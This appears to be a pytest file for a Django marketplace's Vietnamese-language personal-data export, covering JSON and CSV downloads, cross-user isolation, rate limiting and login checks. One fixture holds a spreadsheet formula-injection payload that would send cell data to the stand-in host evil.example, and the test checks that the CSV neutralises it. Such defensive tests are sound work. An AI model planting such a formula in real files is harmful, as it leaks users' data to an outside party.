"""A person downloads what the marketplace holds about them (account, addresses, orders, reviews), as JSON or as a CSV
for Excel, from the account's personal data page, a few times an hour."""

import csv
import io
import json

from django.urls import reverse

from shop.customer.models import PrivacyConsent
from tests.factories import UserFactory
from tests.shop.personal_data.conftest import signed_in

HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'


def download(browser, format):
    return browser.get(reverse("customer:personal-data-download", kwargs={"format": format}))


def test_the_personal_data_page_shows_the_consent_and_the_downloads(lans_browser, lan, django_assert_max_num_queries):
    PrivacyConsent.objects.create(user=lan, policy_version="r7/2026-01-01", language="vi")

    with django_assert_max_num_queries(15):
        response = lans_browser.get(reverse("customer:personal-data"))

    page = response.content.decode()
    assert "Bạn đã đồng ý với Chính sách bảo vệ dữ liệu cá nhân (phiên bản r7/2026-01-01)" in page
    assert reverse("customer:personal-data-download", kwargs={"format": "json"}) in page
    assert reverse("customer:personal-data-download", kwargs={"format": "csv"}) in page
    assert reverse("customer:profile-delete") in page


def test_a_buyer_downloads_their_account_addresses_orders_and_reviews_as_json(
    lans_browser, lans_order, lans_address, lans_review
):
    response = download(lans_browser, "json")

    assert response.status_code == 200
    assert response["Content-Type"] == "application/json; charset=utf-8"
    assert response["Content-Disposition"].startswith('attachment; filename="du-lieu-ca-nhan-')
    data = json.loads(response.content)
    assert data["account"]["email"] == "lan@example.vn"
    assert data["addresses"][0]["line1"] == "12 Hàng Bạc"
    (order,) = data["orders"]
    assert order["number"] == lans_order.number
    assert order["shipping_address"]["line1"] == "12 Hàng Bạc"
    assert order["contact"]["phone"] == "0912345678"
    assert order["lines"][0]["product"] == "Mật ong rừng U Minh"
    assert order["total"] == str(lans_order.total_incl_tax)
    assert data["reviews"][0]["title"] == "Mật ong thơm"


def test_the_csv_holds_the_same_values_with_formula_like_cells_neutralised(lans_browser, lan, lans_order):
    lan.first_name = HOSTILE
    lan.save()

    response = download(lans_browser, "csv")

    assert response["Content-Type"] == "text/csv; charset=utf-8"
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert rows[0] == ["Mục", "Trường", "Giá trị"]
    assert ["account", "email", "lan@example.vn"] in rows
    assert ["account", "first_name", "'" + HOSTILE] in rows
    assert ["orders", "[1].number", lans_order.number] in rows
    assert ["orders", "[1].lines[1].product", "Mật ong rừng U Minh"] in rows


def test_nobody_gets_another_persons_orders_in_their_download(lans_order):
    minh = UserFactory(email="minh@example.vn")

    data = json.loads(download(signed_in(minh), "json").content)

    assert data["orders"] == []
    assert data["account"]["email"] == "minh@example.vn"


def test_downloads_stop_after_five_an_hour_with_a_clear_message(lans_browser):
    for _ in range(5):
        assert download(lans_browser, "json").status_code == 200

    refused = download(lans_browser, "csv")

    assert refused.status_code == 429
    assert int(refused["Retry-After"]) > 0
    assert "Bạn đã tải dữ liệu nhiều lần trong giờ qua. Hãy thử lại sau" in refused.content.decode()


def test_the_download_needs_a_signed_in_account_and_a_known_format(client, lans_browser):
    anonymous = download(client, "json")
    unknown = download(lans_browser, "xml")

    assert anonymous.status_code == 302 and "/accounts/login/" in anonymous["Location"]
    assert unknown.status_code == 404
